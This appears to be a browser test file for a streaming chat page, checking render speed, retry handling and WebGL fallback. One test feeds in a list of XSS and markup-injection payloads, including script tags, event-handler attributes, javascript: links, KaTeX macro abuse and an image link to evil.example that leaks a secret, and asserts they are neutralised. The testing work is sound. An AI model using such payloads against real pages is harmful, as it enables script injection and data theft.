/** Text that streams in fast, and text that means harm: the page alone, with a scripted server. */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { answered, ask, launch, noBrowser, openPage } from './harness.js';
import { scriptedServer } from './scripted.js';

const TOKENS_PER_SECOND = 200;
const PARAGRAPH =
  'The response ◆ rises with temperature, \\(y = b_0 + b_1 x_1 + b_2 x_2\\), and costs $5 to $40 a run ◆. ' +
  'It is flat near the optimum: a change of 2 % costs ◆ nothing.\n\n' +
  '| factor | low | high |\n|---|---|---|\n| temperature | 150 | 200 |\n| pressure | 1 | 5 |\n\n' +
  '```havoc\nfit = stats.regression(rate ~ power + gas, data=runs)\n```\n\n';

const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '![x](https://evil.example/collect?secret=1)',
  '[click](javascript:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '<svg onload="window.hacked=1"></svg>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<style>*{display:none}</style>',
  '\\(\\href{javascript:window.hacked=1}{x}\\)',
  '\\(\\includegraphics{https://evil.example/x.png}\\)',
  '\\(\\def\\a{\\a\\a}\\a\\)',
  '\\(\\rule{9999em}{9999em}\\)',
  '\\(\\fcolorbox{red}{yellow}{x}\\)',
  '[9.99](#v:r1.cpk) and [10](#v:../../x)',
  '[[figure:r9.9]]',
].join('\n\n');

const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

describe('the page', { skip: noBrowser }, () => {
  let browser;
  before(async () => {
    browser = await launch();
  });
  after(() => browser.close());

  test('paints text as it arrives, without rendering again what is finished', async (t) => {
    const text = PARAGRAPH.repeat(24);
    const pieces = text.match(/[\s\S]{1,5}/g).slice(0, 2000);
    let first = true;
    const server = await scriptedServer(async (send, ended) => {
      if (first) {
        first = false;
        send('token', { t: PARAGRAPH });
        return;
      }
      const begun = performance.now();
      for (let i = 0; i < pieces.length && !ended(); i++) {
        send('token', { t: pieces[i].replace('◆', () => `⟦${i}:${Date.now()}⟧`) });
        const due = begun + ((i + 1) * 1000) / TOKENS_PER_SECOND;
        if (due > performance.now()) await sleep(due - performance.now());
      }
    });
    t.after(() => server.close());
    const page = await openPage(browser, server.url);
    // The code for formulas and listings is fetched with the first answer that has some.
    await ask(page, 'all of it once');
    await answered(page);
    await page.locator('.katex').first().waitFor();
    await page.waitForLoadState('networkidle');
    await page.evaluate(watchMarks);
    await ask(page, 'stream');
    await answered(page, 60_000);
    const { delays, touched, added } = await page.evaluate(() => globalThis.watched());
    const [earliest] = delays;
    delays.sort((a, b) => a - b);
    const p95 = delays[Math.floor(0.95 * delays.length)];
    t.diagnostic(`marks painted: ${delays.length}, first ${earliest} ms, p50 ${delays[delays.length >> 1]} ms, p95 ${p95} ms, blocks added ${added}, changed after their end ${touched}`); // prettier-ignore
    // Times are told, not asserted: the machine may be busy with anything.
    assert.ok(delays.length >= 60, `${delays.length} marks were seen`);
    assert.equal(touched, 0, 'a finished block was changed');
    assert.deepEqual(page.faults(), []);
    await page.context().close();
  });

  test('hostile text does nothing, and is not fetched', async (t) => {
    const server = await scriptedServer(async (send) => send('token', { t: HOSTILE }));
    t.after(() => server.close());
    const page = await openPage(browser, server.url);
    const asked = [];
    page.on('request', (r) => !r.url().startsWith(server.url) && asked.push(r.url()));
    await ask(page, 'be evil');
    const answer = await answered(page);
    await answer
      .locator('.katex')
      .first()
      .waitFor({ timeout: 10_000 })
      .catch(() => {});
    await page.waitForTimeout(800);
    assert.equal(await page.evaluate(() => globalThis.hacked), undefined);
    assert.deepEqual(asked.filter((url) => !/^(data|blob):/.test(url)), []); // prettier-ignore
    const inside =
      'script, iframe, img, style, form, object, embed, a[href^="javascript"], a[href^="data"]';
    assert.equal(await answer.locator(inside).count(), 0);
    assert.equal(await answer.locator('[data-verified=false]').count(), 2);
    assert.ok((await answer.boundingBox()).width < 900, 'a rule of 9999em breaks the page');
    // \fcolorbox would set a style attribute: the policy refuses it, and says so. Nothing else.
    assert.deepEqual(page.faults(/style-src|inline style/), []);
    await page.context().close();
  });

  test('a refusal says what to do, and the question can be mended', async (t) => {
    const server = await scriptedServer(async (send) => {
      send('error', {
        code: 'bad_input',
        message: 'the last user message is empty',
        retryable: false,
      });
    });
    t.after(() => server.close());
    const page = await openPage(browser, server.url);
    await ask(page, 'hm');
    await answered(page);
    await page.getByRole('alert').getByText('the last user message is empty').waitFor();
    await page.getByRole('button', { name: 'Edit the question' }).last().click();
    assert.equal(await page.inputValue('#edit-question'), 'hm');
    await page.context().close();
  });

  test('without a server it says so, and retry asks again', async (t) => {
    const server = await scriptedServer(async (send) => send('token', { t: 'Here.' }));
    const page = await openPage(browser, server.url);
    t.after(() => page.context().close());
    await page.route('**/chat', (route) => route.abort());
    await ask(page, 'anyone?');
    await page.getByText('The server cannot be reached').waitFor();
    await page.unroute('**/chat');
    await page.getByRole('button', { name: 'Retry', exact: true }).click();
    await page.locator('.havoc-prose').getByText('Here.').waitFor();
    assert.match(await page.getByLabel(/Version 2 of 2/).innerText(), /2\/2/);
    server.close();
  });

  test('without WebGL it is complete', async (t) => {
    const server = await scriptedServer(async (send) => send('token', { t: 'Here.' }));
    t.after(() => server.close());
    const page = await openPage(browser, server.url, { reducedMotion: 'reduce' });
    assert.equal(await page.locator('canvas').count(), 0);
    await page.getByRole('heading', { name: /Ask for a number/ }).waitFor();
    assert.deepEqual(page.faults(), []);
    await page.context().close();
  });

  test('the 3D scene is there when it is asked for, and draws less than 20 frames a second', async (t) => {
    const server = await scriptedServer(async () => {});
    t.after(() => server.close());
    const page = await openPage(browser, server.url);
    await page.evaluate(() =>
      localStorage.setItem('havoc.settings', JSON.stringify({ scene: 'on' })),
    );
    await page.addInitScript(() => {
      globalThis.draws = 0;
      const draw = WebGL2RenderingContext.prototype.drawElements;
      WebGL2RenderingContext.prototype.drawElements = function count(...args) {
        globalThis.draws += 1;
        return draw.apply(this, args);
      };
    });
    await page.reload();
    await page.locator('canvas').waitFor({ timeout: 30_000 });
    await page.waitForFunction(() => globalThis.draws > 0, null, { timeout: 30_000 });
    const before = await page.evaluate(() => globalThis.draws);
    await page.waitForTimeout(3000);
    const perSecond = ((await page.evaluate(() => globalThis.draws)) - before) / 3;
    t.diagnostic(`draw calls a second: ${perSecond.toFixed(1)}`);
    assert.ok(perSecond <= 20, `${perSecond} draw calls a second`);
    // Chromium's software renderer tells of its own slowness.
    assert.deepEqual(page.faults(/GPU stall/), []);
    await page.context().close();
  });
});

/** In the page: when each mark was painted, and whether a block changed after it was followed. */
function watchMarks() {
  const delays = [];
  const seen = new Set();
  let touched = 0;
  let added = 0;
  let standing = 0; // blocks when the page was last looked at: several may come in one frame
  const look = () => {
    const prose = [...document.querySelectorAll('.havoc-prose')].at(-1);
    const now = Date.now();
    for (const [, mark, sent] of (prose?.textContent ?? '').matchAll(/⟦(\d+):(\d+)⟧/g)) {
      if (seen.has(mark)) continue;
      seen.add(mark);
      delays.push(now - Number(sent));
    }
    requestAnimationFrame(look);
  };
  requestAnimationFrame(look);
  new MutationObserver((records) => {
    for (const record of records) {
      const prose = [...document.querySelectorAll('.havoc-prose')].at(-1);
      if (!prose?.contains(record.target)) continue;
      if (record.target === prose) {
        added += record.addedNodes.length;
        continue;
      }
      let block = record.target;
      while (block.parentNode !== prose) block = block.parentNode;
      // the last blocks may still grow; code and formulas are coloured once when their chunk comes
      const index = [...prose.children].indexOf(block);
      const behind = index > 0 && index < standing - 3; // the first waits for the formulas' chunk
      const element = record.target.nodeType === 1 ? record.target : record.target.parentElement;
      const formula = [...record.addedNodes].some(
        (n) => n.nodeType === 1 && (n.matches('.katex') || n.querySelector('.katex')),
      );
      const source = element?.matches('span:has(> .katex)'); // its source made way for the formula
      const late = formula || source || element?.closest('pre, .katex, [data-tex]');
      if (behind && !late) touched += 1;
    }
    standing = [...document.querySelectorAll('.havoc-prose')].at(-1)?.children.length ?? 0;
  }).observe(document.body, { subtree: true, childList: true, characterData: true });
  globalThis.watched = () => ({ delays, touched, added });
}
